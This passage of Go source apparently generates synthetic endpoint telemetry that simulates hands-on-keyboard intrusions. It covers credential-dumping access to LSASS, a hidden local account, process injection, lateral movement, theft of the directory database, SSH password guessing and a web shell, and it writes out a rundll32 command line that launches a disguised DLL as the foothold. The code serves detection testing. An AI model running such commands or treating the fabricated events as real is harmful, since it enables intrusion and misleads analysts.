	case "Discovery", "Collection":
		return "Low"
	}
	return "Medium"
}

// stepImage resolves a step's program: an attacker tool, a fixed image, or a catalog program.
func (g *generator) stepImage(d *device, name string, tools map[string]exe) *file {
	if e, ok := tools[name]; ok {
		return e.resolve(d.owner.profile)
	}
	for k, f := range d.images {
		if f != nil && strings.EqualFold(f.name, name) && k != iPayload {
			return f
		}
	}
	for i := range g.bl.tools {
		if strings.EqualFold(g.bl.tools[i].spec.name, name) {
			return g.bl.image(d, i)
		}
	}
	if name == "t.exe" {
		return dataFile(`C:\Users\Public\t.exe`, "intrusion|t.exe", 52_224)
	}
	return sysExe(name, "").resolve("")
}

// stepTrace records one side effect of a step's process p.
func (g *generator) stepTrace(d *device, p *proc, ts int64, tr trace, u *account) {
	switch tr.table {
	case "file":
		f := dataFile(tr.a, "intrusion|"+tr.a, tr.n)
		g.fileEvent(d, p, ts, tr.action, f, func(r *row) {
			if tr.b != "" {
				r.originURL = tr.b
				r.originIP = "198.51.100.23"
			}
		})
	case "reg":
		action := tr.action
		g.regEvent(d, p, ts, action, regInfo{key: tr.a, valueName: tr.b, valueData: tr.c, valueType: when(tr.b != "", "String")})
	case "net":
		ip := tr.b
		if ip == "@file" {
			ip = g.w.fileSrv.ip
		}
		g.toolConnect(d, p, ts, peer{host: tr.a, ip: ip, port: tr.n, proto: "Tcp"})
	case "event":
		g.devEvent(d, p, ts, tr.action, func(r *row) {
			r.additional = tr.c
			switch tr.action {
			case "OpenProcessApiCall":
				r.file, r.proc = d.lsass.img, d.lsass
			case "UserAccountCreated", "UserAccountAddedToLocalGroup":
				r.acct = &account{name: "support_tmp", domain: d.short, sid: "S-1-5-21-3623811015-3361044348-30300820-1009"}
			case "CreateRemoteThreadApiCall", "WriteProcessMemoryApiCall":
				if d.sessionOf != nil {
					r.proc, r.file = d.sessionOf, d.sessionOf.img
				}
			}
		})
	}
}

// intrusions plays the campaigns. Hands-on-keyboard intrusions recur in a real tenant, so the same playbook
// runs on several workstations: in full four days before the end, a third of it in the last day, another
// third two weeks back; then the operator moves laterally, steals the directory database, and a Linux
// server falls to SSH password guessing.
func (g *generator) intrusions(c storyCast) {
	ws := g.w.windowsWorkstations()
	if len(ws) < 3 {
		return
	}
	span := g.c.end - g.c.start
	at := func(back int64, hourOfDay time.Duration) int64 {
		if span < 20*dayNs {
			return g.c.start + span*(20*dayNs-min(back, 19*dayNs))/(20*dayNs)
		}
		t := g.c.end - back
		return g.c.clamp(t - t%dayNs + int64(hourOfDay))
	}
	plays := []struct {
		dev   *device
		name  string
		start int64
		keep  func(i int) bool
	}{
		{ws[len(ws)/3], "Operator intrusion", at(4*dayNs, 9*time.Hour), func(int) bool { return true }},
		{ws[(len(ws)*2)/3], "Hands-on-keyboard attack", at(dayNs, 0), func(i int) bool { return i%3 == 1 }},
		{ws[(len(ws)*5)/6], "Hands-on-keyboard attack", at(14*dayNs, 13*time.Hour), func(i int) bool { return i%3 == 2 }},
	}
	for k, p := range plays {
		start := p.start
		if k == 1 {
			// In the last day, ending well before the end of the window: the steps take about two hours.
			start = max(g.c.start, g.c.end-int64(20*time.Hour))
		}
		var steps []step
		for i, s := range workstationSteps(p.dev.owner, g.w.dc) {
			if p.keep(i) {
				steps = append(steps, s)
			}
		}
		foot := g.spawnImage(p.dev, g.sessionProc(p.dev, start), p.dev.images[iRundll32], `"C:\Windows\System32\rundll32.exe" E:\docs\invoice.dll,DllRegisterServer`, p.dev.owner, start)
		g.playIntrusion(&intrusion{name: p.name, dev: p.dev, acct: p.dev.owner, foothold: foot, start: start, gap: 2 * time.Minute, steps: steps})
	}
	first := plays[0].start
	g.lateralTechniques(plays[0].dev, first+int64(5*hour))
	g.domainControllerTheft(first + int64(6*hour))
	g.linuxIntrusion(at(2*dayNs, 2*time.Hour))
	g.webShell(at(6*dayNs, 22*time.Hour))
	_ = c
}
